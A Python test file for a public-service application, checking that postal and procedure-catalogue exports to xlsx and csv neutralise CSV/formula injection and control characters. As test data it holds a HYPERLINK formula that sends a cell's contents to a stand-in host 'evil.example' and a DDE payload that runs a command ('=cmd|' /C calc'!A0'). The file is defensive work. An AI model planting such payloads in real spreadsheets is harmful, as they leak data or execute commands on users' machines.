"""Exports that values from citizens could poison (issue 12, item 8): an address written as a
spreadsheet formula, names starting with + - @, control characters in a stored value. Written
through the real services, read back with openpyxl and csv: no formula anywhere, the values
kept as text, and the export never fails."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from onestop.domain.catalog import Procedure, RequiredDocument
from onestop.domain.identifiers import make_s10
from onestop.services import catalog, dossiers, postal
from onestop.services.postal import HandoverLine
from onestop.services.reception import ReceiveRequest, receive
from onestop.store.db import STORE_FILE
from tests.helpers import run_cli

DAY = date(2026, 11, 16)
EVIL_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây") Phường Long Xuyên'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def by_post(ctx, name: str, address: str) -> str:
    code = receive(
        ctx,
        ReceiveRequest(
            procedure_code="1.001193",
            applicant_name=name,
            phone="+84 912 345 678",
            address=address,
            return_by="post",
        ),
    ).code
    dossiers.mark_result_ready(ctx, code)
    return code


def xlsx_cells(path: Path) -> list:
    return [cell for row in load_workbook(path).worksheets[0].iter_rows() for cell in row]


def assert_inert(cells: list) -> None:
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s", cell.coordinate
            assert not cell.value.startswith(TRIGGERS), (cell.coordinate, cell.value)


def test_postal_export_writes_formulas_as_quoted_text(ctx, clock, tmp_path):
    evil = by_post(ctx, "Nguyễn Văn An", EVIL_ADDRESS)
    minus = by_post(ctx, "Trần Thị Bé", "-12 Nguyễn Huệ, Phường Long Xuyên")
    postal.handover(
        ctx,
        "delivery",
        [HandoverLine(evil, make_s10("RR", 10)), HandoverLine(minus, make_s10("RR", 11))],
    )
    assert postal.export_day(ctx, DAY, "xlsx", tmp_path / "day.xlsx").rows == 2
    cells = xlsx_cells(tmp_path / "day.xlsx")
    assert_inert(cells)
    values = [c.value for c in cells]
    assert "'" + EVIL_ADDRESS in values
    assert "'-12 Nguyễn Huệ, Phường Long Xuyên" in values
    # A phone is stored as 0912345678 (never +84...), so it is never quoted; numbers that the
    # program computed stay numbers.
    assert "0912345678" in values
    row = next(r for r in load_workbook(tmp_path / "day.xlsx").worksheets[0].iter_rows())
    header = [c.value for c in row]
    postage = [c for c in cells if c.column == header.index("postage") + 1 and c.row > 1]
    assert all(isinstance(c.value, int) for c in postage)

    assert postal.export_day(ctx, DAY, "csv", tmp_path / "day.csv").rows == 2
    text = (tmp_path / "day.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["address"] for r in rows} == {
        "'" + EVIL_ADDRESS,
        "'-12 Nguyễn Huệ, Phường Long Xuyên",
    }
    for r in rows:
        assert not any(v.startswith(TRIGGERS) for v in r.values()), r


def test_a_stored_control_character_does_not_break_the_days_export(ctx, clock, data_dir, tmp_path):
    """Values stored before the input policy, or received by sync, may hold characters XML
    cannot: they are replaced, and the rest of the day is exported."""
    # A real 2025 address: the post needs the commune (issue 14).
    address = "12 Nguyễn Huệ, Phường Long Xuyên, Tỉnh An Giang"
    codes = [by_post(ctx, name, address) for name in ("Nguyễn Văn An", "Lê Văn Cường")]
    numbers = [make_s10("RR", 20), make_s10("RR", 21)]
    postal.handover(
        ctx, "delivery", [HandoverLine(c, n) for c, n in zip(codes, numbers, strict=True)]
    )
    db = sqlite3.connect(data_dir / STORE_FILE)
    with db:
        db.execute(
            "UPDATE postal_consignments SET applicant_name = ?, address = ? WHERE number = ?",
            ("Nguyễn\x01Văn\x1bAn", "12\x0cNguyễn Huệ\x00", numbers[0]),
        )
    db.close()
    assert postal.export_day(ctx, DAY, "xlsx", tmp_path / "day.xlsx").rows == 2
    values = [c.value for c in xlsx_cells(tmp_path / "day.xlsx")]
    assert "Nguyễn\ufffdVăn\ufffdAn" in values and "12\ufffdNguyễn Huệ\ufffd" in values
    assert "Lê Văn Cường" in values
    assert postal.export_day(ctx, DAY, "csv", tmp_path / "day.csv").rows == 2
    text = (tmp_path / "day.csv").read_bytes().decode("utf-8-sig")
    assert "Nguyễn\ufffdVăn\ufffdAn" in text and "\x00" not in text and "\x1b" not in text
    # The command line too: exit 0, the file written.
    out = tmp_path / "cli.xlsx"
    run_cli(
        data_dir,
        "postal",
        "export",
        "--date",
        DAY.isoformat(),
        "--format",
        "xlsx",
        "--out",
        str(out),
    )
    assert "Nguyễn\ufffdVăn\ufffdAn" in [c.value for c in xlsx_cells(out)]


def test_catalogue_export_is_inert_and_reads_back_the_same(tmp_path):
    evil = Procedure(
        code="9.999999",
        name="=cmd|' /C calc'!A0",
        field="-Hộ tịch",
        processing_days=0,
        processing_hours=None,
        fee=0,
        postal=True,
        online="toàn trình",
        documents=(RequiredDocument("@Tờ khai", "bản chính", 1),),
    )
    plain = catalog.demo_catalog()[0]
    for suffix, write in (
        (".xlsx", catalog.write_catalog_xlsx),
        (".csv", catalog.write_catalog_csv),
    ):
        path = tmp_path / f"catalog{suffix}"
        write([evil, plain], path)
        if suffix == ".xlsx":
            cells = xlsx_cells(path)
            assert_inert(cells)
            assert "'=cmd|' /C calc'!A0" in [c.value for c in cells]
        else:
            grid = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
            assert grid[1][1] == "'=cmd|' /C calc'!A0" and grid[1][2] == "'-Hộ tịch"
            assert grid[1][8] == "'@Tờ khai | bản chính | 1"
        # The quote is the export's: reading the file back gives the procedures as they were.
        assert catalog.read_file(path) == [evil, plain]
